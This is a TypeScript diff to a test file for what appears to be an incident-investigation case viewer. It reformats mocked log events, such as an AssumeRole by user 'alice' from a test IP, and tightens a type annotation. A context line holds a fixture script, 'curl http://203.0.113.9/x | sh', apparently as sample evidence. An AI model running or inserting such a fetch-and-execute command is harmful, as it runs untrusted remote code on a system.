@@ -11,35 +11,37 @@ const bytes = Buffer.from('#!/bin/sh\ncurl http://203.0.113.9/x | sh\n')
 const view: CaseView = {
   events: async (uids) =>
     new Map(
-      ([
-        {
-          uid: 'a',
-          from: us('2026-03-02T10:00:00Z'),
-          to: us('2026-03-02T10:00:00Z') + 999_999n,
-          values: { user_name: 'alice', src_ip: '203.0.113.9', action: 'AssumeRole' },
-          exhibit: 'EX-001',
-          member: 'EX-001/000001',
-        },
-        {
-          uid: 'b',
-          from: us('2026-03-02T10:00:05Z'),
-          to: us('2026-03-02T10:00:05Z'),
-          values: { user_name: 'alice' },
-          exhibit: 'EX-001',
-          member: 'EX-001/000001',
-        },
-        {
-          uid: 'c',
-          from: us('2026-03-02T10:00:00Z') + 500_000n,
-          to: us('2026-03-02T10:00:00Z') + 500_000n,
-          values: {},
-          exhibit: 'EX-001',
-          member: 'EX-001/000001',
-        },
-        ...Array.from({ length: 30 }, (_, i) => ({ uid: `e${i}`, values: {}, exhibit: 'EX-001', member: 'm' })),
-      ] as ViewedEvent[])
+      (
+        [
+          {
+            uid: 'a',
+            from: us('2026-03-02T10:00:00Z'),
+            to: us('2026-03-02T10:00:00Z') + 999_999n,
+            values: { user_name: 'alice', src_ip: '203.0.113.9', action: 'AssumeRole' },
+            exhibit: 'EX-001',
+            member: 'EX-001/000001',
+          },
+          {
+            uid: 'b',
+            from: us('2026-03-02T10:00:05Z'),
+            to: us('2026-03-02T10:00:05Z'),
+            values: { user_name: 'alice' },
+            exhibit: 'EX-001',
+            member: 'EX-001/000001',
+          },
+          {
+            uid: 'c',
+            from: us('2026-03-02T10:00:00Z') + 500_000n,
+            to: us('2026-03-02T10:00:00Z') + 500_000n,
+            values: {},
+            exhibit: 'EX-001',
+            member: 'EX-001/000001',
+          },
+          ...Array.from({ length: 30 }, (_, i) => ({ uid: `e${i}`, values: {}, exhibit: 'EX-001', member: 'm' })),
+        ] as ViewedEvent[]
+      )
         .filter(({ uid }) => uids.includes(uid))
-        .map((one) => [one.uid, one]),
+        .map((one): [string, ViewedEvent] => [one.uid, one as unknown as ViewedEvent]),
     ),
   record: async () => '{"userAgent":"aws-cli"}',
   count: async ({ query }) => (query === 'user:alice' ? 3 : 0),
